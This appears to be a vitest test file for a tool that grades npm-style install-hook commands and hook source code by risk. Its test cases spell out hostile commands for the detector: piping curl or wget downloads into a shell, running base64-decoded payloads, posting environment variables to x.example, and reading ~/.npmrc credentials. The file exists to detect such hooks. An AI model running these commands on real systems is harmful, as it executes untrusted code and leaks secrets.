import { describe, expect, it } from 'vitest';
import { analyseHookCommand, analyseHookSource, combineHookAnalyses, filesRunBy } from './hook-behaviour.js';

describe('analyseHookCommand', () => {
  it.each([
    ['curl -fsSL https://x.example/i.sh | sh', 'critical', 'download-and-execute'],
    ['wget -qO- https://x.example/i | sudo bash', 'critical', 'download-and-execute'],
    ['bash -c "$(curl -fsSL https://x.example/i)"', 'critical', 'download-and-execute'],
    ['echo aGk= | base64 -d | sh', 'critical', 'eval-decoded'],
    ['env | curl -d @- https://x.example', 'critical', 'env-exfiltration'],
    ['cat ~/.npmrc', 'high', 'credential-read'],
    ['sh -c "make all"', 'high', 'shell'],
    ['curl -o bin.tgz https://x.example/bin.tgz', 'high', 'download'],
    ['node install.js', 'medium', 'runs-file'],
    ['make', 'medium', 'opaque'],
    ['node-gyp rebuild', 'low', 'native-build'],
    ['prebuild-install || node-gyp rebuild', 'low', 'native-build'],
  ] as const)('%s → %s (%s)', (command, severity, behaviour) => {
    const a = analyseHookCommand(command);
    expect(a.severity).toBe(severity);
    expect(a.behaviours[0]).toBe(behaviour);
  });

  it('a harmless-looking command followed by more is not low', () => {
    expect(analyseHookCommand('node-gyp rebuild && curl https://x.example/a | sh').severity).toBe('critical');
    expect(analyseHookCommand('node-gyp rebuild; ./post').severity).toBe('medium');
  });

  it('names the files a command runs', () => {
    expect(filesRunBy('node ./scripts/setup.js && python3 tools/x.py --flag')).toEqual([
      'scripts/setup.js',
      'tools/x.py',
    ]);
    expect(filesRunBy('node -e "1"')).toEqual([]);
  });
});

describe('analyseHookSource', () => {
  it('JavaScript: spawn, network, credential read, decoded eval', () => {
    const a = analyseHookSource(
      "const cp = require('child_process'); require('https'); fs.readFileSync(home + '/.npmrc'); eval(Buffer.from(s, 'base64').toString())",
    );
    expect(a.severity).toBe('critical');
    expect(a.behaviours).toEqual(
      expect.arrayContaining(['eval-decoded', 'credential-read', 'process-spawn', 'network']),
    );
  });

  it('Python and Ruby: subprocess, urllib, system with an embedded pipe to sh', () => {
    expect(analyseHookSource('import subprocess\nsubprocess.run(["ls"])').behaviours).toContain('process-spawn');
    expect(analyseHookSource('from urllib.request import urlopen\nurlopen(u)').behaviours).toContain('network');
    expect(analyseHookSource('system("curl -s https://x.example/p | sh")').severity).toBe('critical');
  });

  it('nothing recognised is low, and says it is no proof', () => {
    const a = analyseHookSource('fn main() { println!("cargo:rerun-if-changed=build.rs"); }');
    expect(a.severity).toBe('low');
    expect(a.summary).toContain('does not prove it harmless');
  });

  it('combining a command with the file it runs keeps the file’s findings', () => {
    const a = combineHookAnalyses([analyseHookCommand('node setup.js'), analyseHookSource("require('https').get(u)")]);
    expect(a.behaviours).toEqual(['network']);
    expect(a.severity).toBe('high');
  });

  it('reads at most 256 KiB of a file (linear, bounded)', () => {
    expect(analyseHookSource(`${' '.repeat(300 * 1024)}eval(x)`).behaviours).toEqual(['nothing-recognised']);
  });
});
